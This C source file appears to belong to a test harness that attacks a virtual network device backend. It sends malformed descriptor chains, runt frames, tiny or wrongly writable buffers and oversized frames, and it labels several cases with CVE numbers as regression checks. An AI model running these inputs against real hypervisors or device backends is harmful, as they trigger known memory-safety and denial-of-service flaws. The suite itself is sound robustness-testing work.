// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attack_net.c - R8 to R10: chains and buffers of all lengths, in rings that are right.
 */
#include <errno.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

/* Sends what lies in buffer 0 of the transmit ring, cut into pieces of @piece bytes. */
static int send_pieces(struct attack *a, uint32_t bytes, uint32_t piece, unsigned int flags)
{
	struct fe_ring *q = fe_tx(a->fe, 0);
	struct fe_part parts[FE_INDIRECT_MAX];
	uint64_t gpa = q->pool[0];
	unsigned int n = 0;

	while (bytes && n < FE_INDIRECT_MAX) {
		uint32_t take = n == FE_INDIRECT_MAX - 1 ? bytes : MIN(piece, bytes);

		parts[n++] = (struct fe_part){.gpa = gpa, .bytes = take};
		gpa += take;
		bytes -= take;
	}
	return fe_ring_add(q, parts, n, flags, FE_NO_BUFFER) < 0 ? -ENOSPC : 0;
}

static void fill_frame(struct attack *a, uint32_t bytes)
{
	struct fe_ring *q = fe_tx(a->fe, 0);
	uint8_t *va = fe_mem_va(a->fe, q->pool[0], q->buffer_bytes);

	memset(va, 0, FE_HDR_BYTES);
	memcpy(va + 12, a->exchange.wire_mac, 6);
	memcpy(va + 18, a->exchange.guest_mac, 6);
	memset(va + 24, 0x5a, bytes > 24 ? bytes - 24 : 0);
}

/* --- R8: transmit ---------------------------------------------------------------------------- */

#define PIECES(bytes, piece) ((uint64_t)(bytes) << 32 | (piece))

static int tx_bytes(struct attack *a, uint64_t arg)
{
	uint32_t bytes = (arg >> 32) & 0x7fffffff, piece = arg & 0xffffffff;
	int err = 0;

	fill_frame(a, bytes);
	for (unsigned int i = 0; !err && i < 8; i++) {
		err = send_pieces(a, bytes, piece, i % 2 ? FE_ADD_INDIRECT : 0);
		if (err == -ENOSPC)
			err = attack_wait_sent(a);
	}
	return err ? err : attack_wait_sent(a);
}

/* Every length from 1 byte to what a frame with its header can have at least. */
static int tx_every_length(struct attack *a, uint64_t piece)
{
	int err = 0;

	fill_frame(a, 128);
	for (uint32_t bytes = 1; !err && bytes < 80; bytes++) {
		err = send_pieces(a, bytes, piece, bytes % 3 ? 0 : FE_ADD_INDIRECT);
		if (!err)
			err = attack_wait_sent(a);
	}
	return err;
}

static int tx_writable(struct attack *a, uint64_t arg)
{
	struct fe_ring *q = fe_tx(a->fe, 0);
	struct fe_part parts[2] = {{.gpa = q->pool[0], .bytes = 72},
				   {.gpa = q->pool[1], .bytes = 2048, .writable = true}};

	fill_frame(a, 72);
	fe_ring_add(q, parts, 2, arg ? FE_ADD_INDIRECT : 0, FE_NO_BUFFER);
	fe_ring_kick_always(q);
	return 0;
}

/* Many pieces: the last of them is the rest. 1024 and more are only possible without INDIRECT. */
static int tx_many_parts(struct attack *a, uint64_t n)
{
	struct fe_ring *q = fe_tx(a->fe, 0);
	struct fe_part parts[256];

	fill_frame(a, 300);
	for (unsigned int i = 0; i < n; i++)
		parts[i] = (struct fe_part){.gpa = q->pool[0] + i, .bytes = 1};
	if (fe_ring_add(q, parts, n, 0, FE_NO_BUFFER) < 0)
		return -ENOSPC;
	return attack_wait_sent(a);
}

#define TX(name, bytes, piece)                                                                     \
	{name, tx_bytes, PIECES(bytes, piece), AT_RUNNING, WANT_WORKS, 0},                         \
	{                                                                                          \
		name ", packed", tx_bytes, PIECES(bytes, piece), AT_RUNNING, WANT_WORKS,           \
			STEP_PACKED                                                                \
	}

static const struct step r8[] = {
	TX("1 byte", 1, 1),
	TX("11 bytes: less than the header (CVE-2022-2132)", 11, 64),
	TX("12 bytes: the header alone (CVE-2022-2132)", 12, 64),
	TX("12 bytes in 12 descriptors (CVE-2022-2132)", 12, 1),
	TX("13 bytes", 13, 64),
	TX("header in 6 descriptors, frame in 30", 72, 2),
	TX("frame of 13 bytes", 25, 64),
	TX("frame of 2000 bytes, with an MTU of 1500", 2012, 4096),
	{"every length from 1 to 79", tx_every_length, 64, AT_RUNNING, WANT_WORKS, 0},
	{"every length from 1 to 79 in pieces of 5", tx_every_length, 5, AT_RUNNING, WANT_WORKS, 0},
	{"every length from 1 to 79 in pieces of 5, packed", tx_every_length, 5, AT_RUNNING,
	 WANT_WORKS, STEP_PACKED},
	{"a frame in 250 descriptors", tx_many_parts, 250, AT_RUNNING, WANT_ANY, 0},
	{"65536 bytes", tx_bytes, PIECES(65536, 65536), AT_RUNNING, WANT_WORKS, STEP_BIG},
	{"65562 bytes in pieces of 1500", tx_bytes, PIECES(65562, 1500), AT_RUNNING, WANT_WORKS,
	 STEP_BIG},
	{"a writable descriptor", tx_writable, 0, AT_RUNNING, WANT_BROKEN, 0},
	{"a writable descriptor, indirect", tx_writable, 1, AT_RUNNING, WANT_BROKEN, 0},
	{"a writable descriptor, packed", tx_writable, 0, AT_RUNNING, WANT_BROKEN, STEP_PACKED},
};

/* --- R9, R10: receive buffers ---------------------------------------------------------------- */

/* Frames of 60 and 1514 bytes at the bad buffers, then good ones again. */
static int rx_bytes(struct attack *a, uint64_t bytes)
{
	struct fe_ring *q = fe_rx(a->fe, 0);
	struct fe_part part = {.gpa = q->pool[0], .bytes = bytes, .writable = true};
	uint64_t number;
	uint32_t written;

	if (!attack_refill(a, &part, 1))
		return attack_fail(a, "no room for bad buffers");
	for (unsigned int i = 0; i < 40; i++) {
		attack_poke(a, 16);
		exchange_step(&a->exchange, 4);
		usleep(3000);
		while (fe_ring_get(q, &number, &written) > 0)
			;
		if (attack_broken(a, 0))
			return -EPIPE;
	}
	return 0;
}

static int rx_readable(struct attack *a, uint64_t arg)
{
	struct fe_ring *q = fe_rx(a->fe, 0);
	struct fe_part parts[2] = {{.gpa = q->pool[0], .bytes = 2048, .writable = arg},
				   {.gpa = q->pool[1], .bytes = 2048}};

	attack_refill(a, parts, arg ? 2 : 1);
	return 0;
}

static int rx_mixture(struct attack *a, uint64_t arg)
{
	struct fe_ring *q = fe_rx(a->fe, 0);

	for (unsigned int round = 0; round < 300; round++) {
		struct fe_part part = {.writable = true};
		uint64_t number;
		uint32_t bytes;

		part.gpa = q->pool[attack_rand() % q->pool_n];
		part.bytes = 1 + attack_rand() % (round % 3 ? 40 : 2048);
		fe_ring_add(q, &part, 1, 0, FE_NO_BUFFER);
		if (round % 8)
			continue;
		fe_ring_kick_always(q);
		attack_poke(a, 16);
		usleep(2000);
		while (fe_ring_get(q, &number, &bytes) > 0)
			;
	}
	return attack_broken(a, 0) ? -EPIPE : 0;
}

#define RX(name, bytes)                                                                            \
	{name, rx_bytes, bytes, AT_RUNNING, WANT_ANY, 0},                                          \
		{name ", packed", rx_bytes, bytes, AT_RUNNING, WANT_ANY, STEP_PACKED},             \
		{name ", not mergeable", rx_bytes, bytes, AT_RUNNING, WANT_ANY, STEP_NO_MRG},      \
	{                                                                                          \
		name ", not mergeable, packed", rx_bytes, bytes, AT_RUNNING, WANT_ANY,             \
			STEP_NO_MRG | STEP_PACKED                                                  \
	}

static const struct step r9[] = {
	RX("4 bytes: less than the header (CVE-2026-86566)", 4),
	RX("12 bytes: the header alone (CVE-2026-86566)", 12),
	RX("20 bytes: a runt (CVE-2026-86566)", 20),
	RX("71 bytes: one too few for the smallest frame", 71),
	{"readable", rx_readable, 0, AT_RUNNING, WANT_BROKEN, 0},
	{"readable, packed", rx_readable, 0, AT_RUNNING, WANT_BROKEN, STEP_PACKED},
	{"half writable, half readable", rx_readable, 1, AT_RUNNING, WANT_BROKEN, 0},
	{"half writable, half readable, packed", rx_readable, 1, AT_RUNNING, WANT_BROKEN,
	 STEP_PACKED},
	{"a mixture", rx_mixture, 0, AT_RUNNING, WANT_ANY, 0},
	{"a mixture, packed", rx_mixture, 0, AT_RUNNING, WANT_ANY, STEP_PACKED},
};

static const struct step r10[] = {
	{"buffers of 1 byte: a frame needs 72 to 1526 of 256 (CVE-2018-16880)", rx_bytes, 1,
	 AT_RUNNING, WANT_ANY, 0},
	{"buffers of 1 byte, packed (CVE-2018-16880)", rx_bytes, 1, AT_RUNNING, WANT_ANY,
	 STEP_PACKED},
	{"buffers of 13 bytes", rx_bytes, 13, AT_RUNNING, WANT_ANY, 0},
	{"8 buffers of 64 bytes for frames of up to 1526", rx_bytes, 64, AT_RUNNING, WANT_ANY,
	 STEP_SMALL},
	{"8 buffers of 64 bytes, packed", rx_bytes, 64, AT_RUNNING, WANT_ANY,
	 STEP_SMALL | STEP_PACKED},
};

const struct attack_case net_cases[] = {
	STEPS("R8", r8),
	STEPS("R9", r9),
	STEPS("R10", r10),
	{NULL, NULL, 0},
};
